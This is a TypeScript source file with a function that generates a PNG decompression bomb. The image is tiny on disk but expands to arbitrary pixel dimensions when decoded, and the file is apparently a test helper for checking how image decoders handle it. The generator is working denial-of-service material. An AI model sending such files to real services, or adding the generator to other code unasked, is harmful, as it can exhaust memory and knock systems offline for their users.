import { constants, deflateRawSync } from 'node:zlib'

/** A valid PNG file of black pixels, 1 bit each, in a few hundred kilobytes whatever its size. */
export function drawPngBomb(width: number, height: number): Uint8Array {
  const rowBytes = 1 + Math.ceil(width / 8)
  const total = rowBytes * height
  const block = 1 << 20
  // A fully flushed block of zeros can be repeated: no block refers to one before it.
  const zeros = deflateRawSync(Buffer.alloc(block), { finishFlush: constants.Z_FULL_FLUSH })
  const rest = deflateRawSync(Buffer.alloc(total % block))
  const adler = Buffer.alloc(4)
  adler.writeUInt32BE((((total % 65521) << 16) | 1) >>> 0)
  const data = [Buffer.from([0x78, 0x9c]), ...new Array(Math.floor(total / block)).fill(zeros), rest, adler]
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return new Uint8Array(
    Buffer.concat([
      signature,
      chunk('IHDR', header),
      chunk('IDAT', Buffer.concat(data)),
      chunk('IEND', Buffer.alloc(0)),
    ]),
  )
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const whole = Buffer.alloc(body.length + 8)
  whole.writeUInt32BE(data.length, 0)
  body.copy(whole, 4)
  whole.writeUInt32BE(crc32(body), body.length + 4)
  return whole
}

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return (crc ^ 0xffffffff) >>> 0
}
